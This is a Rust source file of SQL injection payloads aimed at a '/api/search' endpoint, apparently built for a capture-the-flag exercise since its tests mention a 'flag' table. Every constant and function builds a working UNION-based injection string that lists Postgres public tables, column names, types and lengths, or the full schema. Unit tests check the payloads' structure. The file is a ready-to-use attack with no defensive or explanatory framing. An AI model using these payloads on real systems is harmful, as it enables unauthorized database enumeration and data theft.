//! Injection payloads for the `/api/search` endpoint.
//!
//! The vulnerable query selects three columns (`id`, `computer_name`,
//! `ip_address`), so every UNION arm must produce exactly three
//! text-castable values. CAST keeps Postgres from rejecting the union on
//! type mismatch; the trailing `--` comments out the closing `%'`.

/// Enumerates the public tables through `pg_tables`.
pub const LIST_TABLES: &str = "' OR '1'='1' UNION SELECT CAST(tablename AS text), null, null FROM pg_tables WHERE schemaname='public' --";

/// Column names and data types for one table.
pub fn columns(table: &str) -> String {
    format!(
        "' OR '1'='1' UNION SELECT CAST(column_name AS text), CAST(data_type AS text), null FROM information_schema.columns WHERE table_schema='public' AND table_name='{table}' --"
    )
}

/// Column metadata with max lengths, ordered for DDL reconstruction.
pub fn column_definitions(table: &str) -> String {
    format!(
        "' OR '1'='1' UNION SELECT CAST(column_name AS text), CAST(data_type AS text), CAST(character_maximum_length AS text) FROM information_schema.columns WHERE table_schema='public' AND table_name='{table}' ORDER BY ordinal_position --"
    )
}

/// Every column of every public table in one response.
pub const FULL_SCHEMA: &str = "' OR '1'='1' UNION SELECT CAST(table_name AS text), CAST(column_name AS text), CAST(data_type AS text) FROM information_schema.columns WHERE table_schema='public' ORDER BY table_name, ordinal_position --";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_payload_has_exactly_three_union_columns() {
        for payload in [
            LIST_TABLES.to_string(),
            columns("users"),
            column_definitions("users"),
            FULL_SCHEMA.to_string(),
        ] {
            let union = payload.split("UNION SELECT ").nth(1).unwrap();
            let select_list = union.split(" FROM ").next().unwrap();
            assert_eq!(select_list.matches(", ").count(), 2, "payload: {payload}");
        }
    }

    #[test]
    fn payloads_close_the_quote_and_comment_the_tail() {
        for payload in [LIST_TABLES.to_string(), columns("flag"), FULL_SCHEMA.to_string()] {
            assert!(payload.starts_with("' OR '1'='1'"));
            assert!(payload.ends_with("--"));
        }
    }

    #[test]
    fn column_payload_targets_the_requested_table() {
        let p = columns("flag");
        assert!(p.contains("table_schema='public' AND table_name='flag'"));
    }

    #[test]
    fn definition_payload_orders_by_ordinal_position() {
        let p = column_definitions("users");
        assert!(p.contains("character_maximum_length"));
        assert!(p.contains("ORDER BY ordinal_position"));
    }
}
